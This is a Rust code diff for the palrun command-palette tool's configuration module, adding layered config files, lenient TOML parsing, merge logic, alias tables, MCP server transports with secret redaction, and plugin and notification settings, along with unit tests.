+enum Layer {
+    /// The user's config directory
+    Global,
+    /// `palrun.toml` or `.palrun.toml`, shared with the project
+    Project,
+    /// `.palrun.local.toml`, kept out of version control
+    Local,
+}
+
+impl Layer {
+    /// Keys a file of this kind may not set.
+    fn denied_keys(self) -> &'static [&'static str] {
+        match self {
+            Self::Global => &[],
+            Self::Project => &PROJECT_DENIED_KEYS,
+            Self::Local => &GLOBAL_ONLY_KEYS,
+        }
+    }
+}
+
+/// Parse a file with syntax errors one top-level section at a time.
+///
+/// Lines are grouped by the first segment of their table header, so
+/// `[hooks]` and `[hooks.pre_commit]` stay together. Groups that still
+/// fail to parse are dropped with a warning.
+fn parse_sections(content: &str) -> (toml::Table, Vec<String>) {
+    let mut groups: Vec<(String, String)> = vec![(String::new(), String::new())];
+    let mut current = 0;
+
+    for line in content.lines() {
+        if let Some(name) = section_name(line) {
+            current = groups.iter().position(|(n, _)| *n == name).unwrap_or_else(|| {
+                groups.push((name, String::new()));
+                groups.len() - 1
+            });
+        }
+        groups[current].1.push_str(line);
+        groups[current].1.push('\n');
+    }
+
+    let mut table = toml::Table::new();
+    let mut warnings = Vec::new();
+    for (name, text) in groups {
+        match text.parse::<toml::Table>() {
+            Ok(section) => table.extend(section),
+            Err(e) if name.is_empty() => {
+                warnings.push(format!("invalid top-level settings: {}", e.message().trim()));
+            }
+            Err(e) => warnings.push(format!("invalid [{name}] section: {}", e.message().trim())),
+        }
+    }
+
+    (table, warnings)
+}
+
+/// Get the top-level table name from a `[name.sub]` or `[[name]]` header.
+fn section_name(line: &str) -> Option<String> {
+    let header = line.trim_start().strip_prefix('[')?;
+    let header = header.strip_prefix('[').unwrap_or(header);
+    let name = header.split([']', '.']).next()?.trim().trim_matches(['"', '\'']);
+    Some(name.to_string())
+}
+
+/// Parse a config file into a table, dropping sections that are invalid.
+fn parse_lenient_table(content: &str) -> (toml::Table, Vec<String>) {
+    let (mut table, mut warnings) = match content.parse::<toml::Table>() {
+        Ok(table) => (table, Vec::new()),
+        Err(_) => parse_sections(content),
+    };
+    normalize_aliases(&mut table);
+    warnings.extend(drop_invalid_sections(&mut table));
+    (table, warnings)
+}
+
+/// Rewrite an `[aliases]` table as `[[aliases]]` entries.
+///
+/// Layered files then merge aliases by name whichever form each one uses.
+fn normalize_aliases(table: &mut toml::Table) {
+    let Some(toml::Value::Table(aliases)) = table.get_mut("aliases") else {
+        return;
+    };
+
+    let entries = std::mem::take(aliases)
+        .into_iter()
+        .map(|(name, value)| {
+            let mut entry = match value {
+                toml::Value::Table(entry) => entry,
+                command => toml::Table::from_iter([("command".to_string(), command)]),
+            };
+            entry.insert("name".to_string(), toml::Value::String(name));
+            toml::Value::Table(entry)
+        })
+        .collect();
+    table.insert("aliases".to_string(), toml::Value::Array(entries));
+}
+
+/// Remove top-level sections that do not match the schema.
+fn drop_invalid_sections(table: &mut toml::Table) -> Vec<String> {
+    let mut warnings = Vec::new();
+    let keys: Vec<String> = table.keys().cloned().collect();
+    for key in keys {
+        let mut section = toml::Table::new();
+        section.insert(key.clone(), table[&key].clone());
+        if let Err(e) = toml::Value::Table(section).try_into::<Config>() {
+            warnings.push(format!("invalid [{key}] section: {}", e.message().trim()));
+            table.remove(&key);
+        }
+    }
+    warnings
+}
+
+/// Leniently read one config file to layer over the ones before it.
+///
+/// Fails only if the file has invalid sections and strict mode is on,
+/// either in this file or in one loaded before it. Unreadable files are
+/// skipped.
+fn read_layer(path: &Path, strict: &mut bool) -> anyhow::Result<Option<toml::Table>> {
+    let content = match std::fs::read_to_string(path) {
+        Ok(content) => content,
+        Err(e) => {
+            tracing::warn!("Skipping config {}: {e}", path.display());
+            return Ok(None);
+        }
+    };
+
+    let (table, warnings) = parse_lenient_table(&content);
+    *strict |= table.get("strict").and_then(toml::Value::as_bool).unwrap_or(false);
+    if !warnings.is_empty() {
+        if *strict {
+            anyhow::bail!(
+                "Invalid configuration in {}:\n  {}",
+                path.display(),
+                warnings.join("\n  ")
+            );
+        }
+        for warning in &warnings {
+            tracing::warn!("{}: {warning}; using defaults", path.display());
+        }
+    }
+
+    Ok(Some(table))
+}
+
+/// Remove the keys matching `patterns` from a config table.
+///
+/// Patterns are dotted key paths in which `*` matches any single key.
+/// Returns the dotted paths of the removed keys.
+fn remove_keys(table: &mut toml::Table, patterns: &[&str]) -> Vec<String> {
+    let mut removed = Vec::new();
+    for pattern in patterns {
+        let parts: Vec<&str> = pattern.split('.').collect();
+        remove_path(table, &parts, "", &mut removed);
+    }
+    removed
+}
+
+fn remove_path(table: &mut toml::Table, parts: &[&str], prefix: &str, removed: &mut Vec<String>) {
+    let Some((first, rest)) = parts.split_first() else {
+        return;
+    };
+    let keys: Vec<String> = if *first == "*" {
+        table.keys().cloned().collect()
+    } else {
+        table.keys().filter(|key| key == first).cloned().collect()
+    };
+
+    for key in keys {
+        let path = if prefix.is_empty() { key.clone() } else { format!("{prefix}.{key}") };
+        if rest.is_empty() {
+            table.remove(&key);
+            removed.push(path);
+        } else if let Some(toml::Value::Table(inner)) = table.get_mut(&key) {
+            remove_path(inner, rest, &path, removed);
+        }
+    }
+}
+
+/// Deep-merge `over` into `base`, recording `file` as the source of every
+/// value it sets.
+///
+/// Tables merge key by key. Arrays of tables that all have a `name`, like
+/// `[[aliases]]`, merge by name: an entry replaces the one with the same
+/// name below it and new names are appended. Any other value, including a
+/// plain array, replaces the one below it.
+fn merge_tables(
+    base: &mut toml::Table,
+    over: toml::Table,
+    prefix: &str,
+    file: &Path,
+    sources: &mut BTreeMap<String, PathBuf>,
+) {
+    for (key, value) in over {
+        let path = if prefix.is_empty() { key.clone() } else { format!("{prefix}.{key}") };
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(below)), toml::Value::Table(over)) => {
+                merge_tables(below, over, &path, file, sources);
+            }
+            (Some(toml::Value::Array(below)), toml::Value::Array(over))
+                if is_named_array(below) && is_named_array(&over) =>
+            {
+                merge_named(below, over, &path, file, sources);
+            }
+            (_, value) => {
+                sources.retain(|source, _| !is_under(source, &path));
+                record_sources(&value, &path, file, sources);
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+/// Merge named array entries, keeping the position of replaced ones.
+fn merge_named(
+    below: &mut Vec<toml::Value>,
+    over: Vec<toml::Value>,
+    path: &str,
+    file: &Path,
+    sources: &mut BTreeMap<String, PathBuf>,
+) {
+    for entry in over {
+        let index = below
+            .iter()
+            .position(|existing| entry_name(existing) == entry_name(&entry))
+            .unwrap_or(below.len());
+        let entry_path = format!("{path}.{index}");
+        sources.retain(|source, _| !is_under(source, &entry_path));
+        record_sources(&entry, &entry_path, file, sources);
+        if index == below.len() {
+            below.push(entry);
+        } else {
+            below[index] = entry;
+        }
+    }
+}
+
+/// Record `file` as the source of every value in `value`.
+fn record_sources(
+    value: &toml::Value,
+    path: &str,
+    file: &Path,
+    sources: &mut BTreeMap<String, PathBuf>,
+) {
+    match value {
+        toml::Value::Table(table) => {
+            for (key, value) in table {
+                record_sources(value, &format!("{path}.{key}"), file, sources);
+            }
+        }
+        toml::Value::Array(entries) if is_named_array(entries) => {
+            for (i, entry) in entries.iter().enumerate() {
+                record_sources(entry, &format!("{path}.{i}"), file, sources);
+            }
+        }
+        _ => {
+            sources.insert(path.to_string(), file.to_path_buf());
+        }
+    }
+}
+
+/// Whether an array holds tables that all have a `name`.
+fn is_named_array(entries: &[toml::Value]) -> bool {
+    !entries.is_empty() && entries.iter().all(|entry| entry_name(entry).is_some())
+}
+
+/// The `name` of an array entry.
+fn entry_name(entry: &toml::Value) -> Option<&str> {
+    entry.as_table()?.get("name")?.as_str()
+}
+
+/// Whether dotted `key` is `path` or a value inside it.
+fn is_under(key: &str, path: &str) -> bool {
+    key.strip_prefix(path).is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
+}
+
+impl Default for Config {
+    fn default() -> Self {
+        Self {
+            strict: false,
+            general: GeneralConfig::default(),
+            ui: UiConfig::default(),
+            scanner: ScannerConfig::default(),
+            exec: ExecConfig::default(),
+            security: SecurityConfig::default(),
+            #[cfg(feature = "ai")]
+            ai: AiConfig::default(),
+            keys: KeyConfig::default(),
+            #[cfg(feature = "git")]
+            hooks: HooksConfig::default(),
+            aliases: Vec::new(),
+            mcp: MCPConfig::default(),
+            plugins: PluginsConfig::default(),
+            #[cfg(feature = "ai")]
+            notify: NotifyConfig::default(),
+        }
+    }
+}
+
+impl Default for GeneralConfig {
+    fn default() -> Self {
+        Self {
+            show_hidden: false,
+            confirm_dangerous: true,
+            max_history: 1000,
+            shell: None,
+            exec_wrapper: None,
+            exec_wrapper_sources: Vec::new(),
+            exec_wrapper_tags: Vec::new(),
+            default_timeout: None,
+        }
+    }
+}
+
+impl Default for UiConfig {
+    fn default() -> Self {
+        Self {
+            theme: "default".to_string(),
+            show_preview: true,
             show_icons: true,
             max_display: 50,
             mouse: true,
             custom_colors: None,
+            search: SearchConfig::default(),
+            icons: IconsConfig::default(),
+            default_action: EnterAction::default(),
+            actions: std::collections::HashMap::new(),
+            run_in_pane: false,
         }
     }
 }
@@ -713,6 +1481,8 @@ impl Default for ScannerConfig {
             ],
             max_depth: 5,
             recursive: true,
+            max_breadth: 100,
+            max_dirs: 1000,
         }
     }
 }
@@ -737,6 +1507,7 @@ impl Default for AiConfig {
             openai: OpenAIConfig::default(),
             azure: AzureOpenAIConfig::default(),
             grok: GrokConfig::default(),
+            routing: None,
         }
     }
 }
@@ -776,77 +1547,6 @@ impl Default for GrokConfig {
 
 #[cfg(feature = "ai")]
 impl AiConfig {
-    /// Merge another AI config into this one (other takes precedence for non-None values).
-    pub fn merge(mut self, other: Self) -> Self {
-        // Basic settings
-        if !other.enabled {
-            self.enabled = false;
-        }
-        if other.provider != "claude" {
-            self.provider = other.provider;
-        }
-        if other.model.is_some() {
-            self.model = other.model;
-        }
-        if !other.fallback_enabled {
-            self.fallback_enabled = false;
-        }
-        if !other.fallback_chain.is_empty() {
-            self.fallback_chain = other.fallback_chain;
-        }
-
-        // Ollama
-        if other.ollama.base_url != "http://localhost:11434" {
-            self.ollama.base_url = other.ollama.base_url;
-        }
-        if other.ollama.model != "codellama:7b" {
-            self.ollama.model = other.ollama.model;
-        }
-
-        // Claude
-        if other.claude.api_key.is_some() {
-            self.claude.api_key = other.claude.api_key;
-        }
-        if other.claude.model != default_claude_model() {
-            self.claude.model = other.claude.model;
-        }
-
-        // OpenAI
-        if other.openai.api_key.is_some() {
-            self.openai.api_key = other.openai.api_key;
-        }
-        if other.openai.model != default_openai_model() {
-            self.openai.model = other.openai.model;
-        }
-        if other.openai.base_url.is_some() {
-            self.openai.base_url = other.openai.base_url;
-        }
-
-        // Azure
-        if other.azure.endpoint.is_some() {
-            self.azure.endpoint = other.azure.endpoint;
-        }
-        if other.azure.api_key.is_some() {
-            self.azure.api_key = other.azure.api_key;
-        }
-        if other.azure.deployment.is_some() {
-            self.azure.deployment = other.azure.deployment;
-        }
-        if other.azure.api_version != default_azure_api_version() {
-            self.azure.api_version = other.azure.api_version;
-        }
-
-        // Grok
-        if other.grok.api_key.is_some() {
-            self.grok.api_key = other.grok.api_key;
-        }
-        if other.grok.model != default_grok_model() {
-            self.grok.model = other.grok.model;
-        }
-
-        self
-    }
-
     /// Check if a provider has credentials configured.
     pub fn has_credentials(&self, provider: &str) -> bool {
         match provider {
@@ -904,13 +1604,25 @@ impl Default for KeyConfig {
 
 /// Command alias configuration.
 ///
-/// Allows users to define shortcuts for frequently used commands.
+/// Allows users to define shortcuts for frequently used commands, either
+/// as `[[aliases]]` entries or in an `[aliases]` table:
+///
+/// ```toml
+/// [aliases]
+/// t = "cargo test --workspace"
+/// ship = { command = "deploy", confirm = true }
+/// ```
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct AliasConfig {
     /// Short name for the alias (used in command palette)
+    ///
+    /// Taken from the key in an `[aliases]` table.
+    #[serde(default)]
     pub name: String,
 
-    /// The actual command to execute
+    /// The name of another command or alias, or a command line to run
+    ///
+    /// See [`crate::core::resolve_alias`].
     pub command: String,
 
     /// Optional description
@@ -936,6 +1648,10 @@ pub struct AliasConfig {
     /// Branch patterns this alias is available on
     #[serde(default, skip_serializing_if = "Vec::is_empty")]
     pub branches: Vec<String>,
+
+    /// Shell to run the alias with (e.g. "bash")
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub shell: Option<String>,
 }
 
 impl AliasConfig {
@@ -950,10 +1666,43 @@ impl AliasConfig {
             working_dir: None,
             env: Vec::new(),
             branches: Vec::new(),
+            shell: None,
         }
     }
 }
 
+/// Deserialize aliases from `[[aliases]]` entries or an `[aliases]` table.
+///
+/// Table values are a command, or a table of the other alias fields.
+fn deserialize_aliases<'de, D: serde::Deserializer<'de>>(
+    deserializer: D,
+) -> Result<Vec<AliasConfig>, D::Error> {
+    #[derive(Deserialize)]
+    #[serde(untagged)]
+    enum Aliases {
+        List(Vec<AliasConfig>),
+        Table(BTreeMap<String, AliasValue>),
+    }
+
+    #[derive(Deserialize)]
+    #[serde(untagged)]
+    enum AliasValue {
+        Command(String),
+        Full(AliasConfig),
+    }
+
+    Ok(match Aliases::deserialize(deserializer)? {
+        Aliases::List(aliases) => aliases,
+        Aliases::Table(table) => table
+            .into_iter()
+            .map(|(name, value)| match value {
+                AliasValue::Command(command) => AliasConfig::new(name, command),
+                AliasValue::Full(alias) => AliasConfig { name, ..alias },
+            })
+            .collect(),
+    })
+}
+
 /// MCP (Model Context Protocol) configuration.
 ///
 /// Configures connections to MCP servers for dynamic tool discovery.
@@ -974,37 +1723,59 @@ pub struct MCPServerEntry {
     /// Server name (unique identifier)
     pub name: String,
 
-    /// Command to run the server
-    pub command: String,
-
-    /// Command arguments
-    #[serde(default)]
-    pub args: Vec<String>,
+    /// `command`/`args` for a local server, `url`/`headers` for a remote one
+    #[serde(flatten)]
+    pub transport: crate::mcp::MCPTransport,
 
-    /// Environment variables
+    /// Environment variables (local servers only)
     #[serde(default)]
     pub env: std::collections::HashMap<String, String>,
 
-    /// Working directory (optional)
+    /// Working directory (local servers only)
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub cwd: Option<String>,
 }
 
 impl MCPServerEntry {
-    /// Create a new MCP server entry.
+    /// Create a new MCP server entry that spawns `command`.
     pub fn new(name: impl Into<String>, command: impl Into<String>) -> Self {
         Self {
             name: name.into(),
-            command: command.into(),
-            args: Vec::new(),
+            transport: crate::mcp::MCPTransport::Stdio {
+                command: command.into(),
+                args: Vec::new(),
+            },
             env: std::collections::HashMap::new(),
             cwd: None,
         }
     }
 
-    /// Add arguments.
+    /// Create a new MCP server entry for a remote server at `url`.
+    pub fn http(name: impl Into<String>, url: impl Into<String>) -> Self {
+        Self {
+            name: name.into(),
+            transport: crate::mcp::MCPTransport::Http {
+                url: url.into(),
+                headers: std::collections::HashMap::new(),
+            },
+            env: std::collections::HashMap::new(),
+            cwd: None,
+        }
+    }
+
+    /// Add arguments (local servers only).
     pub fn with_args(mut self, args: Vec<String>) -> Self {
-        self.args = args;
+        if let crate::mcp::MCPTransport::Stdio { args: ref mut current, .. } = self.transport {
+            *current = args;
+        }
+        self
+    }
+
+    /// Add request headers (remote servers only).
+    pub fn with_headers(mut self, headers: std::collections::HashMap<String, String>) -> Self {
+        if let crate::mcp::MCPTransport::Http { headers: ref mut current, .. } = self.transport {
+            *current = headers;
+        }
         self
     }
 
@@ -1013,6 +1784,103 @@ impl MCPServerEntry {
         self.env = env;
         self
     }
+
+    /// Copy of this entry with environment and header values hidden.
+    ///
+    /// Servers usually receive API tokens through `env` or an
+    /// `Authorization` header, so only the names are kept when the config
+    /// is exported.
+    pub fn redacted(&self) -> Self {
+        let mut entry = self.clone();
+        for value in entry.env.values_mut() {
+            *value = REDACTED_VALUE.to_string();
+        }
+        if let crate::mcp::MCPTransport::Http { ref mut headers, .. } = entry.transport {
+            for value in headers.values_mut() {
+                *value = REDACTED_VALUE.to_string();
+            }
+        }
+        entry
+    }
+}
+
+/// Placeholder for redacted MCP server environment values.
+const REDACTED_VALUE: &str = "[REDACTED]";
+
+/// Notification settings.
+///
+/// `pal notify on-complete` sends to every endpoint listed here, but only
+/// for commands that ran at least `threshold_secs`, so quick commands
+/// don't ping anyone.
+#[cfg(feature = "ai")]
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct NotifyConfig {
+    /// Minimum run time in seconds before a notification is sent
+    pub threshold_secs: u64,
+
+    /// Lines of output included in the notification
+    pub tail_lines: usize,
+
+    /// Endpoints to notify
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub endpoints: Vec<crate::integrations::NotificationConfig>,
+}
+
+#[cfg(feature = "ai")]
+impl Default for NotifyConfig {
+    fn default() -> Self {
+        Self { threshold_secs: 30, tail_lines: 10, endpoints: Vec::new() }
+    }
+}
+
+#[cfg(feature = "ai")]
+impl NotifyConfig {
+    /// Whether a command that ran for `duration` is worth a notification.
+    pub fn should_notify(&self, duration: std::time::Duration) -> bool {
+        duration.as_secs() >= self.threshold_secs
+    }
+
+    /// Look up an endpoint by name.
+    pub fn endpoint(&self, name: &str) -> Option<&crate::integrations::NotificationConfig> {
+        self.endpoints.iter().find(|e| e.name == name)
+    }
+}
+
+/// Plugin configuration.
+///
+/// Controls where plugins are discovered from. Enterprises can point
+/// `registry_url` at a private index and add local directories of
+/// plugin manifests that are merged on top of the remote registry.
+/// `trusted_keys` lists the minisign keys that signed plugins must match.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct PluginsConfig {
+    /// Run enabled scanner plugins during command discovery
+    pub scan: bool,
+
+    /// Custom registry index URL (defaults to the public registry)
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub registry_url: Option<String>,
+
+    /// Local registry directories containing plugin manifests
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub local_registries: Vec<PathBuf>,
+
+    /// Minisign public keys trusted to sign registry plugins
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub trusted_keys: Vec<String>,
+}
+
+impl Default for PluginsConfig {
+    fn default() -> Self {
+        Self {
+            scan: true,
+            registry_url: None,
+            local_registries: Vec::new(),
+            trusted_keys: Vec::new(),
+        }
+    }
 }
 
 #[cfg(test)]
@@ -1054,6 +1922,138 @@ mod tests {
         assert!(!config.ui.show_preview);
     }
 
+    #[test]
+    fn test_search_config_deserialization() {
+        let config: Config = toml::from_str("").unwrap();
+        assert_eq!(config.ui.search, SearchConfig::default());
+
+        let toml_str = r#"
+            [ui.search]
+            case = "sensitive"
+            normalize = false
+        "#;
+
+        let config: Config = toml::from_str(toml_str).unwrap();
+        assert_eq!(config.ui.search.case, SearchCase::Sensitive);
+        assert!(!config.ui.search.normalize);
+        assert_eq!(config.ui.search.normalization(), nucleo::pattern::Normalization::Never);
+    }
+
+    #[test]
+    fn test_configured_icon_overrides_default() {
+        use crate::core::{CommandSource, SourceRegistry};
+
+        let registry = SourceRegistry::new();
+        let toml_str = r#"
+            [ui.icons]
+            npm = "[npm]"
+        "#;
+
+        let config: Config = toml::from_str(toml_str).unwrap();
+        let npm = CommandSource::PackageJson(PathBuf::from("."));
+        assert_eq!(config.ui.icons.icon(&npm, &registry), "[npm]");
+        assert_eq!(
+            config.ui.icons.icon(&CommandSource::Cargo(PathBuf::from(".")), &registry),
+            "🦀"
+        );
+    }
+
+    #[test]
+    fn test_ascii_icon_preset() {
+        use crate::core::{CommandSource, SourceRegistry};
+
+        let registry = SourceRegistry::new();
+        let toml_str = r#"
+            [ui.icons]
+            preset = "ascii"
+            make = "M"
+        "#;
+
+        let config: Config = toml::from_str(toml_str).unwrap();
+        assert_eq!(config.ui.icons.preset, IconPreset::Ascii);
+        assert_eq!(
+            config.ui.icons.icon(&CommandSource::Cargo(PathBuf::from(".")), &registry),
+            "rs"
+        );
+        assert_eq!(
+            config.ui.icons.icon(&CommandSource::Makefile(PathBuf::from(".")), &registry),
+            "M"
+        );
+        assert!(config.ui.icons.icon(&CommandSource::Git, &registry).is_ascii());
+    }
+
+    #[test]
+    fn test_plugin_icon_resolution() {
+        use crate::core::{CommandSource, SourceInfo, SourceRegistry};
+
+        let mut registry = SourceRegistry::new();
+        registry.register(SourceInfo {
+            key: "gradle-scanner".to_string(),
+            name: "gradle".to_string(),
+            icon: "🐘".to_string(),
+            ascii_icon: "gr".to_string(),
+        });
+        let gradle = CommandSource::Plugin { name: "gradle-scanner".to_string() };
+        let other = CommandSource::Plugin { name: "other".to_string() };
+
+        let config = Config::default();
+        assert_eq!(config.ui.icons.icon(&gradle, &registry), "🐘");
+        assert_eq!(config.ui.icons.icon(&other, &registry), "🧰");
+
+        let toml_str = r#"
+            [ui.icons]
+            plugin = "P"
+            gradle-scanner = "G"
+        "#;
+        let config: Config = toml::from_str(toml_str).unwrap();
+        assert_eq!(config.ui.icons.icon(&gradle, &registry), "G");
+        assert_eq!(config.ui.icons.icon(&other, &registry), "P");
+    }
+
+    #[test]
+    fn test_enter_action_resolution() {
+        use crate::core::{Command, CommandSource};
+
+        let toml_str = r#"
+            [ui]
+            default_action = "print"
+
+            [ui.actions]
+            docker = "confirm"
+            terraform = "confirm"
+            make = "run"
+        "#;
+        let ui = toml::from_str::<Config>(toml_str).unwrap().ui;
+
+        let npm = Command::new("npm run build", "npm run build")
+            .with_source(CommandSource::PackageJson(PathBuf::from(".")));
+        assert_eq!(ui.enter_action(&npm), EnterAction::Print);
+
+        let compose = Command::new("docker compose up", "docker compose up")
+            .with_source(CommandSource::DockerCompose(PathBuf::from(".")));
+        assert_eq!(ui.enter_action(&compose), EnterAction::Confirm);
+
+        let apply = Command::new("apply", "/usr/local/bin/terraform apply");
+        assert_eq!(ui.enter_action(&apply), EnterAction::Confirm);
+
+        // The source override wins over the program
+        let make_tf = Command::new("make apply", "terraform apply")
+            .with_source(CommandSource::Makefile(PathBuf::from(".")));
+        assert_eq!(ui.enter_action(&make_tf), EnterAction::Run);
+
+        // Commands that require confirmation are never run directly
+        assert_eq!(ui.enter_action(&make_tf.with_confirm(true)), EnterAction::Confirm);
+    }
+
+    #[test]
+    fn test_enter_action_defaults_to_run() {
+        let ui = UiConfig::default();
+        assert_eq!(
+            ui.enter_action(&crate::core::Command::new("test", "cargo test")),
+            EnterAction::Run
+        );
+    }
+
     #[test]
     fn test_alias_config_creation() {
         let alias = AliasConfig::new("deploy-dev", "npm run build && npm run deploy:dev");
@@ -1125,6 +2125,7 @@ mod tests {
             working_dir: None,
             env: Vec::new(),
             branches: Vec::new(),
+            shell: None,
         });
 
         let toml_str = toml::to_string(&config).unwrap();
@@ -1132,4 +2133,673 @@ mod tests {
         assert!(toml_str.contains("name = \"test\""));
         assert!(toml_str.contains("command = \"npm test\""));
     }
+
+    #[test]
+    fn test_aliases_table() {
+        let toml_str = r#"
+            [aliases]
+            t = "cargo test --workspace"
+            ship = { command = "deploy", confirm = true }
+        "#;
+
+        let config: Config = toml::from_str(toml_str).unwrap();
+        let aliases: Vec<_> = config
+            .aliases
+            .iter()
+            .map(|a| (a.name.as_str(), a.command.as_str(), a.confirm))
+            .collect();
+        assert_eq!(aliases, [("ship", "deploy", true), ("t", "cargo test --workspace", false)]);
+
+        // Layered files merge by name whichever form they use
+        let mut table = toml::Table::new();
+        let mut sources = BTreeMap::new();
+        for content in ["[[aliases]]\nname = \"t\"\ncommand = \"make test\"\n", toml_str] {
+            let (layer, warnings) = parse_lenient_table(content);
+            assert_eq!(warnings, Vec::<String>::new());
+            merge_tables(&mut table, layer, "", Path::new("file"), &mut sources);
+        }
+        let merged: Config = toml::Value::Table(table).try_into().unwrap();
+        assert_eq!(merged.aliases.len(), 2);
+        assert_eq!(merged.aliases[0].command, "cargo test --workspace");
+    }
+
+    #[test]
+    fn test_plugins_config_deserialization() {
+        let toml_str = r#"
+            [plugins]
+            registry_url = "https://plugins.example.com/registry.json"
+            local_registries = ["/opt/palrun/registry"]
+            trusted_keys = ["RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3"]
+        "#;
+
+        let config: Config = toml::from_str(toml_str).unwrap();
+        assert_eq!(
+            config.plugins.registry_url.as_deref(),
+            Some("https://plugins.example.com/registry.json")
+        );
+        assert_eq!(config.plugins.local_registries, vec![PathBuf::from("/opt/palrun/registry")]);
+        assert_eq!(config.plugins.trusted_keys.len(), 1);
+    }
+
+    #[test]
+    #[cfg(feature = "ai")]
+    fn test_notify_config() {
+        let toml_str = r#"
+            [notify]
+            threshold_secs = 120
+
+            [[notify.endpoints]]
+            name = "team"
+            type = "teams"
+            webhook_url = "https://example.webhook.office.com/x"
+        "#;
+
+        let config: Config = toml::from_str(toml_str).unwrap();
+        assert_eq!(config.notify.threshold_secs, 120);
+        assert_eq!(config.notify.tail_lines, 10);
+        assert!(config.notify.endpoint("team").is_some());
+        assert!(config.notify.endpoint("other").is_none());
+        assert!(!config.notify.should_notify(std::time::Duration::from_secs(119)));
+        assert!(config.notify.should_notify(std::time::Duration::from_secs(120)));
+        assert!(Config::default().notify.should_notify(std::time::Duration::from_secs(30)));
+    }
+
+    #[test]
+    #[cfg(feature = "ai")]
+    fn test_ai_routing_config() {
+        let toml_str = r#"
+            [ai.routing]
+            documentation = "ollama"
+            code_generation = "claude"
+        "#;
+
+        let config: Config = toml::from_str(toml_str).unwrap();
+        let routing = config.ai.routing.as_ref().unwrap();
+        assert_eq!(routing.documentation, "ollama");
+        assert_eq!(routing.code_generation, "claude");
+        assert_eq!(routing.fallback, "openai");
+
+        assert!(Config::default().ai.routing.is_none());
+    }
+
+    #[test]
+    fn test_parse_lenient_keeps_valid_sections() {
+        let toml_str = r#"
+            [general]
+            max_history = 500
+
+            [ui]
+            theme = "nord"
+            max_display = "lots"
+
+            [[aliases]]
+            name = "deploy"
+            command = "make deploy"
+
+            [plugins]
+            registry_url = "https://plugins.example.com/registry.json"
+        "#;
+
+        let (config, warnings) = Config::parse_lenient(toml_str);
+        assert_eq!(config.general.max_history, 500);
+        assert_eq!(config.aliases.len(), 1);
+        assert!(config.plugins.registry_url.is_some());
+
+        // The broken section falls back to defaults as a whole
+        assert_eq!(config.ui.theme, "default");
+        assert_eq!(warnings.len(), 1);
+        assert!(warnings[0].contains("[ui]"));
+    }
+
+    #[test]
+    fn test_parse_lenient_recovers_from_syntax_errors() {
+        let toml_str = r#"
+            [general]
+            show_hidden = true
+
+            [scanner]
+            enabled = ["npm", "cargo"
+
+            [mcp]
+            enabled = true
+
+            [[mcp.servers]]
+            name = "files"
+            command = "mcp-files"
+        "#;
+
+        let (config, warnings) = Config::parse_lenient(toml_str);
+        assert!(config.general.show_hidden);
+        assert!(config.mcp.enabled);
+        assert_eq!(config.mcp.servers.len(), 1);
+        assert_eq!(config.scanner.enabled, ScannerConfig::default().enabled);
+        assert_eq!(warnings.len(), 1);
+        assert!(warnings[0].contains("[scanner]"));
+    }
+
+    #[test]
+    fn test_parse_lenient_valid_file_has_no_warnings() {
+        let (config, warnings) = Config::parse_lenient("[ui]\ntheme = \"dracula\"\n");
+        assert_eq!(config.ui.theme, "dracula");
+        assert_eq!(warnings, Vec::<String>::new());
+    }
+
+    /// Temporary project root with the given config files.
+    fn project(files: &[(&str, &str)]) -> tempfile::TempDir {
+        let temp = tempfile::TempDir::new().unwrap();
+        std::fs::create_dir(temp.path().join(".git")).unwrap();
+        for (name, content) in files {
+            std::fs::write(temp.path().join(name), content).unwrap();
+        }
+        temp
+    }
+
+    #[test]
+    fn test_load_for_strict() {
+        let temp =
+            project(&[(".palrun.toml", "[general]\nmax_history = 42\n\n[ui]\nmouse = \"yes\"\n")]);
+        let config = Config::load_layers(None, temp.path()).unwrap().0;
+        assert_eq!(config.general.max_history, 42);
+
+        let temp = project(&[(".palrun.toml", "strict = true\n\n[ui]\nmouse = \"yes\"\n")]);
+        let err = Config::load_layers(None, temp.path()).unwrap_err();
+        assert!(err.to_string().contains("[ui]"));
+    }
+
+    #[test]
+    fn test_merge_tables_nested() {
+        let global: toml::Table = toml::from_str(
+            r#"
+            [ui]
+            theme = "nord"
+            max_display = 20
+
+            [ui.icons]
+            npm = "N"
+            make = "M"
+
+            [scanner]
+            enabled = ["npm", "cargo", "make"]
+
+            [[aliases]]
+            name = "deploy"
+            command = "make deploy"
+            confirm = true
+
+            [[aliases]]
+            name = "lint"
+            command = "cargo clippy"
+        "#,
+        )
+        .unwrap();
+        let project: toml::Table = toml::from_str(
+            r#"
+            [ui]
+            theme = "dracula"
+
+            [ui.icons]
+            make = "m"
+            just = "J"
+
+            [scanner]
+            enabled = ["cargo"]
+
+            [[aliases]]
+            name = "deploy"
+            command = "./deploy.sh"
+
+            [[aliases]]
+            name = "fmt"
+            command = "cargo fmt"
+        "#,
+        )
+        .unwrap();
+
+        let mut table = toml::Table::new();
+        let mut sources = BTreeMap::new();
+        merge_tables(&mut table, global, "", Path::new("global"), &mut sources);
+        merge_tables(&mut table, project, "", Path::new("project"), &mut sources);
+        let config: Config = toml::Value::Table(table).try_into().unwrap();
+
+        // Scalars override, untouched siblings stay
+        assert_eq!(config.ui.theme, "dracula");
+        assert_eq!(config.ui.max_display, 20);
+
+        // Nested maps merge by key
+        let icons = &config.ui.icons.sources;
+        assert_eq!(icons.len(), 3);
+        assert_eq!(icons["npm"], "N");
+        assert_eq!(icons["make"], "m");
+        assert_eq!(icons["just"], "J");
+
+        // Plain arrays are replaced, so a project can narrow them
+        assert_eq!(config.scanner.enabled, vec!["cargo"]);
+
+        // Named entries merge by name, replacing the whole entry
+        let aliases: Vec<_> = config.aliases.iter().map(|a| a.name.as_str()).collect();
+        assert_eq!(aliases, ["deploy", "lint", "fmt"]);
+        assert_eq!(config.aliases[0].command, "./deploy.sh");
+        assert!(!config.aliases[0].confirm);
